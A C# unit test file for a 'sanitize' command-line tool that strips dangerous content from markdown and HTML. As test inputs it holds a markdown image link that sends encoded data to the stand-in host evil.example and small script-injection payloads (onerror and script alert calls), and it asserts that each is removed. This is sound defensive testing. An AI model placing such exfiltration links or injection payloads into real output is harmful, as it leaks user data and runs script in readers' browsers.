using System.Text.Json;
using SecureKernel.Cli;

namespace SecureKernel.Tests.Cli;

[TestClass]
public sealed class CliSanitizeTests
{
    private static Task<(int Code, string[] Lines, string Err)> Run(string input, params string[] args) => CliRunner.RunLinesAsync(input, args);

    [TestMethod]
    public async Task Sanitize_Markdown_AllowedHostKept_ExfiltrationRemoved()
    {
        string input = JsonSerializer.Serialize(new { id = "m", text = "![x](https://evil.example/?d=QUtJQUlPU0ZPRE5ON0VYQU1QTEU) [ok](https://docs.contoso.com/a)" });
        var (code, lines, err) = await Run(input, "sanitize", "--allow-host", "contoso.com");
        Assert.AreEqual(0, code, err);
        var root = JsonDocument.Parse(lines.Single()).RootElement;
        string html = root.GetProperty("html").GetString()!;
        string md = root.GetProperty("markdown").GetString()!;
        Assert.IsFalse(html.Contains("evil.example", StringComparison.Ordinal));
        Assert.IsFalse(md.Contains("evil.example", StringComparison.Ordinal));
        StringAssert.Contains(html, "href=\"https://docs.contoso.com/a\"");
        StringAssert.Contains(md, "[ok](https://docs.contoso.com/a)");
        Assert.AreEqual("exfiltration", root.GetProperty("findings")[0].GetProperty("kind").GetString());
    }

    [TestMethod]
    public async Task Sanitize_HtmlFormat_PerLineAndOverride()
    {
        string line = JsonSerializer.Serialize(new { id = 1, text = "<img src=x onerror=alert(1)><script>alert(2)</script><b>ok</b>", format = "html" });
        var (code, lines, _) = await Run(line, "sanitize");
        Assert.AreEqual(0, code);
        var root = JsonDocument.Parse(lines[0]).RootElement;
        Assert.AreEqual(JsonValueKind.Null, root.GetProperty("markdown").ValueKind);
        string html = root.GetProperty("html").GetString()!;
        Assert.IsFalse(html.Contains("onerror", StringComparison.OrdinalIgnoreCase) || html.Contains("<script", StringComparison.OrdinalIgnoreCase), html);
        StringAssert.Contains(html, "<b>ok</b>");

        var (code2, lines2, _) = await Run(line, "sanitize", "--format", "markdown");
        Assert.AreEqual(0, code2);
        Assert.AreNotEqual(JsonValueKind.Null, JsonDocument.Parse(lines2[0]).RootElement.GetProperty("markdown").ValueKind);
    }

    [TestMethod]
    public async Task Sanitize_BadFormat_ErrorLine_Exit3_BadOption_Exit2()
    {
        var (code, lines, _) = await Run("{\"id\":3,\"text\":\"x\",\"format\":\"pdf\"}\n{\"id\":4,\"text\":\"y\"}", "sanitize");
        Assert.AreEqual(3, code);
        var first = JsonDocument.Parse(lines[0]).RootElement;
        Assert.AreEqual(1, first.GetProperty("line").GetInt32());
        Assert.AreEqual(3, first.GetProperty("id").GetInt32());
        Assert.AreEqual(4, JsonDocument.Parse(lines[1]).RootElement.GetProperty("id").GetInt32());

        var (code2, _, err) = await Run("{\"text\":\"x\"}", "sanitize", "--format", "pdf");
        Assert.AreEqual(2, code2);
        Assert.IsFalse(string.IsNullOrWhiteSpace(err));
    }
}
